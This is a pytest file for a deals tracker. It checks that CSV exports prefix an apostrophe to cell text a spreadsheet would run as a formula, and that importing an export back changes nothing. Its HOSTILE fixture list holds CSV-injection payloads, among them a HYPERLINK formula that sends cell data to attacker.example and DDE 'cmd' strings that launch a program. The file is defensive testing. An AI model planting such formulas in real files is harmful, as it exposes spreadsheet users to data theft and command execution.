"""CSV exports never hand a spreadsheet a formula to run, and the import reads them back exactly."""

from __future__ import annotations

import csv
import io

import pytest

from tests.helpers import post_form
from tracker.export.columns import KINDS, STRING
from tracker.export.formulas import neutralise, restore

# Titles an editor (or a hostile source quoted by one) could save; each would run in Excel.
HOSTILE = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "'=already quoted once",
]
# The forms strip surrounding white space, so these reach the rule through the unit test only.
WHITE_SPACE_FIRST = ["\t=1+1", "\r=1+1", "\t", "'\r"]
PLAIN = ["Plain title", "'apostrophe then text", "Deal - with a dash inside"]
DEAL = {
    "kind": "offtake",
    "status": "signed",
    "parties": "us-strategic-metals buyer",
    "commodities": ["antimony"],
    "signed": "2025-09",
    "value_amount": "-5",  # a number column: refused or written as is, never prefixed
}


def _add_deals(editor, titles: list[str]) -> None:
    for number, title in enumerate(titles):
        response = post_form(
            editor, "/deals/new", DEAL | {"title": title, "summary": f"@summary {number}"}
        )
        if response.status_code != 302:  # a negative amount may be refused: then without it
            fields = DEAL | {"title": title, "summary": f"@summary {number}", "value_amount": ""}
            response = post_form(editor, "/deals/new", fields, form_url="/deals/new")
        assert response.status_code == 302, response.text[:500]


def _rows(client, kind: str) -> list[dict[str, str]]:
    response = client.get(f"/export/{kind}.csv")
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.data.decode("utf-8"), newline="")))


def test_text_that_would_run_as_a_formula_is_exported_inert(editor):
    _add_deals(editor, HOSTILE + PLAIN)
    rows = {r["title"]: r for r in _rows(editor, "deals")}
    for title in HOSTILE:
        assert "'" + title in rows, title
        assert rows["'" + title]["summary"].startswith("'@summary")
    for title in PLAIN:
        assert title in rows, title
    # No cell of any file begins with a formula character unless it is a number.
    for kind, columns in KINDS.items():
        texts = {c.name for c in columns if c.type == STRING}
        for row in _rows(editor, kind):
            for name in texts:
                assert (row[name] or " ")[0] not in "=+-@\t\r", (kind, name, row[name])


def test_numbers_are_not_prefixed(editor):
    _add_deals(editor, ["Numbers stay numbers"])
    numeric = [c.name for c in KINDS["deals"] if c.type != STRING]
    for row in _rows(editor, "deals"):
        for name in numeric:
            assert not row[name].startswith("'"), (name, row[name])


def test_export_then_import_changes_nothing_and_keeps_the_formula_text(
    editor, seeded_app, tmp_path
):
    _add_deals(editor, HOSTILE[:3])
    data = editor.get("/export/deals.csv").data
    path = tmp_path / "deals.csv"
    path.write_bytes(data)
    result = seeded_app.test_cli_runner().invoke(args=["import", "deals", str(path)])
    assert result.exit_code == 0, result.output
    assert "0 created, 0 updated" in result.output
    assert editor.get("/export/deals.csv").data == data
    slug = next(r["slug"] for r in _rows(editor, "deals") if r["title"] == "'" + HOSTILE[0])
    assert HOSTILE[0] in editor.get(f"/deals/{slug}").text.replace("&#34;", '"').replace(
        "&amp;", "&"
    )


@pytest.mark.parametrize("text", HOSTILE + PLAIN + WHITE_SPACE_FIRST + ["", "''", "'", "''-1"])
def test_neutralise_and_restore_are_inverse(text):
    assert restore(neutralise(text)) == text
    assert neutralise(text)[:1] not in ("=", "+", "-", "@", "\t", "\r")


def test_the_export_page_and_data_package_say_so(client):
    page = client.get("/export").text
    assert "apostrophe" in page
    package = client.get("/export/datapackage.json").get_json()
    assert "apostrophe" in package["description"]
